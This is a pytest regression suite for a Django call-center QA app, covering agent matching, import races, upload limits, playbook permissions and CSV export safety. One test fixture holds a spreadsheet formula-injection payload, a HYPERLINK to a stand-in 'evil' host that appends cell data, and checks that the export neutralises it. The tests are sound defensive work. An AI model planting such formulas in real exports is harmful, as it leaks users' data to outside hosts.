"""Regression tests for the problems a review found: agent matching, overlapping and racing
imports, CSV injection, leaked errors, upload limits, automatic re-analysis, stale imports,
transcript search, playbook rights, verdict withdrawal and one open dispute."""

from __future__ import annotations

import csv
import datetime
import io
import json

import pytest
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import IntegrityError, connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from karib.core.roles import Role
from karib.service import services
from karib.service.models import (
    Analysis,
    CancellationPlaybook,
    Conversation,
    Dispute,
    ImportBatch,
    ImportFile,
    Review,
)
from tests.factories import UserFactory

from .factories import (
    DATA,
    PUSHY_ID,
    agent_user,
    conversation_from_text,
    manager_user,
    reviewer_user,
    service_team,
)

pytestmark = pytest.mark.django_db


def _import(by, team, files: list[tuple[str, bytes]]) -> ImportBatch:
    batch = services.import_batch_create(
        team=team,
        channel="phone",
        product="credit_card",
        files=[services.UploadedFile(name, content) for name, content in files],
        by=by,
    )
    return services.import_batch_start(batch=batch)


def _line(conversation_id: str, agent: str, text: str, customer: str = "Mr Tan") -> str:
    turns = [
        {"speaker": agent, "role": "agent", "text": text},
        {"speaker": customer, "role": "customer", "text": "ok"},
    ]
    return json.dumps({"conversation_id": conversation_id, "turns": turns}) + "\n"


@pytest.fixture
def team():
    return service_team()


@pytest.fixture
def lina(team):
    return reviewer_user(team)


# --- 1. agent matching -----------------------------------------------------------------


def test_agent_is_matched_by_whole_name_or_alias_never_by_one_word(team, lina):
    # given Agus Salim (alias "CS Agus") is the team's only agent
    agus = agent_user(team)
    agus.profile.aliases = "CS Agus"
    agus.profile.save()
    lines = [
        _line("T-1", "CS Budi", "Selamat pagi"),  # an unknown agent with a title word
        _line("T-2", "Budi Salim", "Selamat siang"),  # shares only Agus's last name
        _line("T-3", "Pak Agus", "Selamat sore"),  # Agus with a title word
        _line("T-4", "Agus Salim", "Selamat malam"),  # full name
        _line("T-5", "agus", "Halo"),  # username
    ]

    # when the file is imported
    with translation.override("en"):
        batch = _import(lina, team, [("t.jsonl", "".join(lines).encode())])

    # then only whole names go to Agus; the others stay unassigned and are reported
    got = dict(Conversation.objects.values_list("external_id", "agent_id"))
    assert got == {"T-1": None, "T-2": None, "T-3": agus.pk, "T-4": agus.pk, "T-5": agus.pk}
    assert Conversation.objects.visible_to(agus).count() == 3
    reasons = [entry["reason"] for entry in batch.report]
    assert any("“CS Budi” matches no service agent" in r for r in reasons)
    assert any("“Budi Salim” matches no service agent" in r for r in reasons)


def test_a_first_name_shared_by_two_agents_is_ambiguous_and_not_assigned(team, lina):
    # given two agents called Agus
    salim = agent_user(team, username="asalim")
    wijaya = UserFactory(
        username="agus2",
        first_name="Agus",
        last_name="Wijaya",
        role=Role.SERVICE_AGENT,
        team=team,
    )
    body = _line("S-1", "Agus", "Selamat pagi") + _line("S-2", "Agus Wijaya", "Halo")

    # when a transcript names only "Agus", another the full name
    with translation.override("en"):
        batch = _import(lina, team, [("s.jsonl", body.encode())])

    # then "Agus" is assigned to nobody and reported as ambiguous; the full name is matched
    got = dict(Conversation.objects.values_list("external_id", "agent_id"))
    assert got == {"S-1": None, "S-2": wijaya.pk}
    assert salim.pk not in got.values()
    [note] = [e for e in batch.report if "Agus" in e["reason"]]
    assert note["reason"].startswith("ambiguous agent name: “Agus”")


def test_speaker_key_drops_title_words_only():
    assert services.speaker_key("  CS  Agus ") == "agus"
    assert services.speaker_key("Mbak Sinta Dewi") == "sinta dewi"
    assert services.speaker_key("Mr. Tan") == "tan"
    assert services.speaker_key("Petugas") == ""


# --- 2. duplicate imports racing ---------------------------------------------------------


def test_a_concurrent_import_of_the_same_conversation_is_skipped_not_fatal(team, lina, monkeypatch):
    # given L-1 is already stored
    agent_user(team)
    three = (DATA / "three.jsonl").read_bytes()
    _import(lina, team, [("first.jsonl", three.splitlines(keepends=True)[0])])

    # and another worker stores L-1 between this import's first duplicate check and its insert
    original = services._existing_hashes
    calls = {"n": 0}

    def racing(team, hashes):
        calls["n"] += 1
        return set() if calls["n"] == 1 else original(team, hashes)

    monkeypatch.setattr(services, "_existing_hashes", racing)

    # when the whole file is imported
    with translation.override("en"):
        batch = _import(lina, team, [("three.jsonl", three)])

    # then the file is imported, L-1 counted as a duplicate, L-2 and L-3 stored, no DB error
    import_file = batch.files.get()
    assert import_file.status == ImportFile.Status.IMPORTED
    assert (import_file.imported_count, import_file.duplicate_count) == (2, 1)
    assert sorted(Conversation.objects.values_list("external_id", flat=True)) == [
        "L-1",
        "L-2",
        "L-3",
    ]
    assert [(e["conversation_id"], e["reason"]) for e in batch.report] == [
        ("L-1", "duplicate: this conversation was imported before")
    ]
    assert calls["n"] == 2


def test_a_database_error_while_storing_shows_a_generic_reason_and_stores_nothing(
    team, lina, monkeypatch, caplog
):
    # given the database refuses the rows with an error that names its internals
    agent_user(team)

    def failing(prepared, playbook):
        raise IntegrityError("UNIQUE constraint failed: service_conversation.secret_column")

    monkeypatch.setattr(services, "_store", failing)

    # when a file is imported
    with translation.override("en"):
        batch = _import(lina, team, [("three.jsonl", (DATA / "three.jsonl").read_bytes())])

    # then the file is rejected with a reason naming it, the details only in the log
    [entry] = batch.report
    assert entry["file"] == "three.jsonl"
    assert entry["reason"].startswith("three.jsonl could not be imported")
    assert "UNIQUE" not in entry["reason"]
    assert "secret_column" not in entry["reason"]
    assert "secret_column" in caplog.text
    assert batch.status == ImportBatch.Status.FAILED
    assert not Conversation.objects.exists()


# --- 3. overlapping runs of one batch ----------------------------------------------------


def test_two_runs_of_the_same_batch_import_each_file_once(team, lina, monkeypatch):
    # given a batch waiting to be imported
    agent_user(team)
    batch = services.import_batch_create(
        team=team,
        channel="phone",
        product="credit_card",
        files=[services.UploadedFile("three.jsonl", (DATA / "three.jsonl").read_bytes())],
        by=lina,
    )
    original = services.tone.analyze
    second_run: dict[str, ImportBatch] = {}

    def analyze(item, **kwargs):
        if not second_run:  # a second runner starts while the first is analysing
            second_run["batch"] = services.import_batch_run(batch_id=batch.pk)
        return original(item, **kwargs)

    monkeypatch.setattr(services.tone, "analyze", analyze)

    # when the first run imports the file
    services.import_batch_run(batch_id=batch.pk)

    # then the second run found the file taken and left the batch to the first run
    assert second_run["batch"].status == ImportBatch.Status.RUNNING
    batch.refresh_from_db()
    import_file = batch.files.get()
    assert import_file.status == ImportFile.Status.IMPORTED
    assert Conversation.objects.count() == 3
    assert (batch.status, batch.imported_count, batch.failed_count) == ("done", 3, 0)
    assert batch.report == []


def test_the_role_mapping_waits_until_the_import_has_ended(team, lina, client_for):
    # given a batch still running (the task is busy with big.jsonl) with a file needing roles
    agent_user(team)
    batch = services.import_batch_create(
        team=team,
        channel="phone",
        product="loan",
        files=[
            services.UploadedFile("a.txt", (DATA / "ambiguous.txt").read_bytes()),
            services.UploadedFile("big.jsonl", (DATA / "three.jsonl").read_bytes()),
        ],
        by=lina,
    )
    waiting = batch.files.get(name="a.txt")
    ImportFile.objects.filter(pk=waiting.pk).update(
        status=ImportFile.Status.NEEDS_ROLES, speakers=["Budi", "Sinta"]
    )
    ImportBatch.objects.filter(pk=batch.pk).update(status=ImportBatch.Status.RUNNING)
    client = client_for(lina)

    # when the reviewer opens the import and posts a mapping anyway
    page = client.get(reverse("service:import-detail", args=[batch.pk])).content.decode()
    posted = client.post(
        reverse("service:import-map-roles", args=[batch.pk, waiting.pk]),
        {f"file{waiting.pk}-agent_speaker": "Budi"},
    )

    # then no mapping form is shown and the request imports nothing
    assert 'id="roles"' not in page
    assert posted.status_code == 302
    assert batch.files.get(name="big.jsonl").status == ImportFile.Status.PENDING
    assert batch.files.get(name="a.txt").status == ImportFile.Status.NEEDS_ROLES
    assert not Conversation.objects.exists()


def test_the_report_is_appended_not_overwritten_by_a_stale_copy(team, lina):
    # given two copies of the same batch (two runs)
    batch = services.import_batch_create(
        team=team,
        channel="phone",
        product="loan",
        files=[services.UploadedFile("a.txt", b"x")],
        by=lina,
    )
    first, second = ImportBatch.objects.get(pk=batch.pk), ImportBatch.objects.get(pk=batch.pk)

    # when each appends an entry
    services._report(first, [{"file": "a", "line": None, "conversation_id": "", "reason": "1"}])
    services._report(second, [{"file": "b", "line": None, "conversation_id": "", "reason": "2"}])

    # then both entries are kept
    batch.refresh_from_db()
    assert [e["reason"] for e in batch.report] == ["1", "2"]


# --- 4. CSV formula injection ------------------------------------------------------------


def test_the_export_neutralises_spreadsheet_formulas(team, lina, client_for):
    # given conversations whose ID and agent name start like spreadsheet formulas
    agent_user(team)
    body = _line('=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1+1)", "Terima kasih") + _line(
        "+1-2", "-cmd", "Halo"
    )
    _import(lina, team, [("x.jsonl", body.encode())])

    # when the reviewer exports
    response = client_for(lina).get(reverse("service:export"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))

    # then every such cell is prefixed with ' and stays text
    cells = {(row[1], row[3]) for row in rows[1:]}
    assert cells == {('\'=HYPERLINK("http://evil/?"&A1,"x")', "'@SUM(1+1)"), ("'+1-2", "'-cmd")}


def test_csv_safe_prefixes_every_formula_start():
    from karib.service.views import csv_safe

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_safe(f"{start}x") == f"'{start}x"
    assert csv_safe("Agus") == "Agus"
    assert csv_safe(-3) == -3  # numbers stay numbers


# --- 6. upload limits --------------------------------------------------------------------


def test_the_upload_form_refuses_wrong_types_too_many_and_too_large_files(
    team, lina, client_for, monkeypatch
):
    client = client_for(lina)
    data = {"team": team.pk, "channel": "phone", "product": "loan"}

    # when a program and a picture are uploaded (the site speaks Indonesian)
    wrong = client.post(
        reverse("service:import"),
        {
            **data,
            "uploads": [
                SimpleUploadedFile("evil.exe", b"MZ\x90\x00"),
                SimpleUploadedFile("p.png", b"\x89PNG"),
            ],
        },
    )
    # and 21 files
    many = client.post(
        reverse("service:import"),
        {**data, "uploads": [SimpleUploadedFile(f"{n}.txt", b"a: b\n") for n in range(21)]},
    )
    # and files over the total size
    monkeypatch.setattr(services, "MAX_IMPORT_TOTAL_BYTES", 1024 * 1024)
    large = client.post(
        reverse("service:import"),
        {**data, "uploads": [SimpleUploadedFile("big.txt", b"a" * (1024 * 1024 + 1))]},
    )

    # then each is refused with a clear error and nothing is stored
    assert wrong.status_code == many.status_code == large.status_code == 422
    errors = wrong.context["form"].errors["uploads"]
    assert any(e.startswith("evil.exe: jenis berkas ini tidak dapat diimpor") for e in errors)
    assert any(e.startswith("p.png:") for e in errors)
    assert many.context["form"].errors["uploads"] == [
        "21 berkas dipilih; satu impor menerima paling banyak 20."
    ]
    assert large.context["form"].errors["uploads"] == [
        "Total berkas 2 MB; satu impor menerima paling banyak 1 MB."
    ]
    assert not ImportBatch.objects.exists()


def test_the_api_refuses_unknown_file_types_with_422(team, lina, client_for):
    response = client_for(lina).post(
        "/api/conversations/import",
        {
            "team": team.pk,
            "channel": "phone",
            "product": "loan",
            "files": [SimpleUploadedFile("evil.exe", b"MZ\x90\x00")],
        },
        HTTP_ACCEPT_LANGUAGE="en",
    )
    assert response.status_code == 422
    assert response.json()["detail"].startswith("files: ")
    assert "evil.exe" in response.json()["detail"]
    assert not ImportBatch.objects.exists()


def test_the_service_refuses_too_many_files_too():
    team = service_team()
    lina = reviewer_user(team)
    files = [services.UploadedFile(f"{n}.txt", b"a: b\n") for n in range(21)]
    with pytest.raises(services.ValidationError) as error:
        services.import_batch_create(
            team=team, channel="phone", product="loan", files=files, by=lina
        )
    assert "files" in error.value.message_dict
    assert not ImportBatch.objects.exists()


# --- 7. re-analysis with a newer engine -----------------------------------------------


def test_a_newer_engine_reanalyses_in_the_background_from_the_list(
    team, lina, client_for, django_capture_on_commit_callbacks
):
    # given an analysis made by an older engine
    cache.delete(services._REANALYSIS_CACHE_KEY)
    conversation = conversation_from_text(PUSHY_ID, team=team, agent=agent_user(team))
    Analysis.objects.filter(conversation=conversation).update(engine_version="0.0.1")

    # when anyone opens the list
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = client_for(lina).get(reverse("service:index"))

    # then the re-analysis was queued (once) and brought the analysis up to date
    assert response.status_code == 200
    assert len(callbacks) == 1
    assert Analysis.objects.get().engine_version == services.tone.ENGINE_VERSION
    Analysis.objects.update(engine_version="0.0.2")
    assert services.reanalysis_ensure() is False  # debounced
    cache.delete(services._REANALYSIS_CACHE_KEY)


def test_analysing_twice_keeps_the_current_analysis(team):
    # given an analysed conversation
    conversation = conversation_from_text(PUSHY_ID, team=team, agent=agent_user(team))
    first = Analysis.objects.get()

    # when it is analysed again (a second task run)
    again = services.conversation_analyse(conversation=conversation)

    # then the current analysis is kept (no duplicate row, no crash); force redoes it
    assert again.pk == first.pk
    assert Analysis.objects.count() == 1
    redone = services.conversation_analyse(conversation=conversation, force=True)
    assert redone.pk != first.pk
    assert Analysis.objects.count() == 1


# --- 8. stale imports --------------------------------------------------------------------


def _stuck_batch(team, lina, minutes: int) -> ImportBatch:
    agent_user(team)
    batch = services.import_batch_create(
        team=team,
        channel="phone",
        product="loan",
        files=[services.UploadedFile("three.jsonl", (DATA / "three.jsonl").read_bytes())],
        by=lina,
    )
    ImportFile.objects.filter(batch=batch).update(status=ImportFile.Status.RUNNING)
    ImportBatch.objects.filter(pk=batch.pk).update(
        status=ImportBatch.Status.RUNNING,
        heartbeat_at=timezone.now() - datetime.timedelta(minutes=minutes),
    )
    return batch


def test_a_stopped_import_is_marked_failed_stops_polling_and_can_be_retried(
    team, lina, client_for, django_capture_on_commit_callbacks
):
    # given an import whose worker died 11 minutes ago
    batch = _stuck_batch(team, lina, minutes=11)
    client = client_for(lina)

    # when the progress is polled
    poll = client.get(reverse("service:import-detail", args=[batch.pk]), HTTP_HX_REQUEST="true")

    # then the import is failed, the poll ends and the page offers a retry
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.FAILED
    assert batch.files.get().status == ImportFile.Status.PENDING
    assert "hx-trigger" not in poll.content.decode()
    assert poll["HX-Refresh"] == "true"
    page = client.get(reverse("service:import-detail", args=[batch.pk])).content.decode()
    assert 'id="retry"' in page

    # when the reviewer retries
    with django_capture_on_commit_callbacks(execute=True):
        retried = client.post(reverse("service:import-retry", args=[batch.pk]))

    # then the file is imported in the background
    assert retried.status_code == 302
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.DONE
    assert Conversation.objects.count() == 3


def test_a_recent_import_keeps_polling(team, lina, client_for):
    batch = _stuck_batch(team, lina, minutes=2)
    poll = client_for(lina).get(
        reverse("service:import-detail", args=[batch.pk]), HTTP_HX_REQUEST="true"
    )
    assert 'hx-trigger="every 1s"' in poll.content.decode()
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.RUNNING


def test_only_overseers_of_the_team_retry(team, lina, client_for):
    batch = _stuck_batch(team, lina, minutes=11)
    services.import_batch_check_stale(batch=ImportBatch.objects.get(pk=batch.pk))
    omar = reviewer_user(service_team("Loans"), username="omar")
    assert (
        client_for(omar).post(reverse("service:import-retry", args=[batch.pk])).status_code == 404
    )
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.FAILED


# --- 9. transcript search ----------------------------------------------------------------


def test_search_finds_non_ascii_words_and_ignores_json_keys(team, lina, client_for):
    # given an imported transcript with "café crème"
    agent_user(team)
    _import(lina, team, [("u.jsonl", _line("U-1", "Agus", "Terima kasih, café crème").encode())])
    client = client_for(lina)

    def count(q: str) -> int:
        return client.get(reverse("service:index"), {"q": q}).context["page"].paginator.count

    # then the words are found, the JSON keys of the stored transcript are not
    assert (
        Conversation.objects.get().transcript_text == "Agus: Terima kasih, café crème\nMr Tan: ok"
    )
    assert count("café") == 1
    assert count("crème") == 1
    assert count("speaker") == 0
    assert count("role") == 0


# --- 10. playbook rights -----------------------------------------------------------------


def test_a_qa_reviewer_reads_the_playbook_but_cannot_change_it(team, lina, client_for):
    client = client_for(lina)
    page = client.get(reverse("service:playbook"))
    denied = client.post(
        reverse("service:playbook"),
        {"max_offers_after_refusal": 10, "requires_courteous_closure": ""},
    )
    assert page.status_code == 200
    assert page.context["form"] is None
    assert denied.status_code == 403
    assert not CancellationPlaybook.objects.exists()
    with pytest.raises(services.PermissionDenied):
        services.playbook_update(
            team=team,
            max_offers_after_refusal=10,
            requires_courteous_closure=False,
            required_closure="",
            guidance="",
            by=lina,
        )


@pytest.mark.parametrize(
    ("who", "get_status", "post_status", "saved"),
    [
        ("agent", 200, 403, False),
        ("reviewer", 200, 403, False),
        ("manager", 200, 302, True),
        ("admin", 200, 302, True),
        ("other_manager", 404, 404, False),
    ],
)
def test_playbook_permission_matrix(team, client_for, who, get_status, post_status, saved):
    users = {
        "agent": agent_user(team),
        "reviewer": reviewer_user(team),
        "manager": manager_user(team),
        "admin": UserFactory(username="root", role=Role.ADMIN),
        "other_manager": manager_user(service_team("Loans"), username="budi"),
    }
    client = client_for(users[who])
    url = f"{reverse('service:playbook')}?team={team.pk}"
    got = client.get(url)
    posted = client.post(
        url,
        {"team": team.pk, "max_offers_after_refusal": 3, "requires_courteous_closure": "on"},
    )
    assert (got.status_code, posted.status_code) == (get_status, post_status)
    stored = CancellationPlaybook.objects.filter(team=team, max_offers_after_refusal=3).exists()
    assert stored is saved


def test_an_admin_without_a_team_picks_one_instead_of_404(team, client_for):
    admin = UserFactory(username="root", role=Role.ADMIN)
    client = client_for(admin)
    page = client.get(reverse("service:playbook"))
    assert page.status_code == 200
    assert page.context["playbook"] is None
    assert 'id="team-picker"' in page.content.decode()
    chosen = client.get(reverse("service:playbook"), {"team": team.pk})
    assert chosen.context["playbook"].team == team
    assert chosen.context["form"] is not None


def test_the_playbook_recheck_does_not_grow_with_the_conversations(team, client_for):
    hendra, agus = manager_user(team), agent_user(team)
    client = client_for(hendra)
    strict = {"max_offers_after_refusal": 0, "requires_courteous_closure": "on"}
    lenient = {"max_offers_after_refusal": 3, "requires_courteous_closure": ""}

    def save(data) -> int:
        with CaptureQueriesContext(connection) as queries:
            client.post(reverse("service:playbook"), data)
        return len(queries)

    # given one conversation and a lenient playbook
    conversation_from_text(PUSHY_ID, team=team, agent=agus)
    save(lenient)
    # when the playbook gets strict (the conversation is flagged)
    few = save(strict)
    assert Analysis.objects.filter(breaks_playbook=True).count() == 1

    # and the same with eleven conversations
    for _ in range(10):
        conversation_from_text(PUSHY_ID, team=team, agent=agus)
    save(lenient)
    assert not Analysis.objects.filter(breaks_playbook=True).exists()
    many = save(strict)

    # then all are flagged with the same number of queries
    assert Analysis.objects.filter(breaks_playbook=True).count() == 11
    assert many == few


# --- 11. withdrawing a verdict -------------------------------------------------------------


def test_a_reviewer_can_withdraw_a_verdict(team, lina, client_for):
    # given the reviewer agreed with a finding
    conversation = conversation_from_text(PUSHY_ID, team=team, agent=agent_user(team))
    code = conversation.findings.first().code
    services.review_save(
        conversation=conversation, verdicts={code: "agree"}, comment="", qa_score=None, by=lina
    )

    # when she saves the review again without a verdict on it
    response = client_for(lina).post(
        reverse("service:review", args=[conversation.pk]), {f"verdict_{code}": ""}
    )

    # then the verdict is gone
    assert response.status_code == 302
    assert Review.objects.get().verdicts == {}


# --- 12. one open dispute -----------------------------------------------------------------


def test_the_database_holds_at_most_one_open_dispute_per_conversation(team):
    agus = agent_user(team)
    conversation = conversation_from_text(PUSHY_ID, team=team, agent=agus)
    Dispute.objects.create(
        conversation=conversation, agent=agus, kind="dispute", reason="a", status="open"
    )
    Dispute.objects.create(
        conversation=conversation, agent=agus, kind="acknowledge", status="answered"
    )
    with pytest.raises(IntegrityError):
        Dispute.objects.create(
            conversation=conversation, agent=agus, kind="dispute", reason="b", status="open"
        )
